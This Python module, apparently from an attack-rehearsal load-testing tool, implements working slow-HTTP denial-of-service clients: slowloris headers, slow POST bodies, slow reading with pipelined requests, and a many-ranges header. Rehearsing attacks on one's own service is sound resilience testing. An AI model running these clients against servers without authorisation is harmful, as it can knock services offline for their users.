"""Slow clients, as slowhttptest plays them: each holds a connection and lets the server wait.

https://github.com/shekyan/slowhttptest: slow headers (slowloris), slow bodies (R-U-Dead-Yet), slow reading, and a Range
header that asks for everything many times over.
"""

import asyncio
import socket
import time
from collections.abc import Callable
from enum import Enum

from firstbell.rehearsal.load.orders import AttackOrders
from firstbell.rehearsal.load.tally import Tally

STEP_S = 5.0
"""How long a slow client waits before its next byte."""

OPENED_PER_S = 1_000
READ_BYTES = 32
RECEIVE_BUFFER_BYTES = 1_024
"""What a slow reader's kernel takes at once; Linux doubles it."""

PIPELINED = 8
"""Requests of a slow reader, whose answers the server must keep."""

RANGES = 500


class Kind(Enum):
    """What is slow. All connections do the same, for a quarter of the attack each."""

    HEADERS = "slow headers"
    BODY = "slow body"
    READ = "slow reading"
    RANGE = "many ranges"


class SlowClients:
    """The slow connections of one attack; `connect` makes a socket that is not connected yet."""

    def __init__(self, orders: AttackOrders, make: Callable[[], socket.socket], tally: Callable[[], Tally]) -> None:
        self._orders = orders
        self._make = make
        self._tally = tally
        host = orders.slow_host
        get = f"GET /sign-in HTTP/1.1\r\nhost: {host}\r\n"
        ranges = ",".join(f"{first}-" for first in range(RANGES))
        self._begins = {
            Kind.HEADERS: get,
            Kind.BODY: f"POST /sign-in HTTP/1.1\r\nhost: {host}\r\n"
            "content-type: application/x-www-form-urlencoded\r\ncontent-length: 8192\r\n\r\n",
            Kind.READ: f"{get}\r\n" * PIPELINED,
            Kind.RANGE: f"GET {orders.slow_path} HTTP/1.1\r\nhost: {host}\r\nrange: bytes={ranges}\r\n\r\n",
        }

    async def hold(self, turn: int) -> None:
        """Hold one connection, another when it is cut, until the attack ends."""
        await asyncio.sleep(max(0.0, self._orders.slow_from_s - self._now()) + turn / OPENED_PER_S)
        while (kind := self._kind()) is not None:
            made = None
            try:
                made = self._make()
                await self._be_slow(kind, made)
            except OSError:
                self._tally().attacks[f"{kind.value}: cut"] += 1
            finally:
                if made is not None:
                    made.close()
            await asyncio.sleep(STEP_S)

    async def _be_slow(self, kind: Kind, made: socket.socket) -> None:
        loop = asyncio.get_running_loop()
        if kind is Kind.READ:
            made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RECEIVE_BUFFER_BYTES)
        await loop.sock_connect(made, self._orders.target.address)
        begin = self._begins[kind].encode()
        await loop.sock_sendall(made, begin)
        self._tally().attacks[kind.value] += 1
        while self._kind() is kind:
            await asyncio.sleep(STEP_S)
            if kind is Kind.HEADERS:
                await loop.sock_sendall(made, b"x-a: b\r\n")
            elif kind is Kind.BODY:
                await loop.sock_sendall(made, b"a")
            elif not await loop.sock_recv(made, READ_BYTES if kind is Kind.READ else 65_536):
                raise ConnectionResetError
            elif kind is Kind.RANGE:
                await loop.sock_sendall(made, begin)

    def _kind(self) -> Kind | None:
        """Which kind it is now, None when the attack is over."""
        begin_s, end_s = self._orders.slow_from_s, self._orders.seconds
        share = (self._now() - begin_s) / max(1.0, end_s - begin_s)
        return list(Kind)[min(len(Kind) - 1, max(0, int(share * len(Kind))))] if share < 1 else None

    def _now(self) -> float:
        return time.monotonic() - self._orders.begins_at
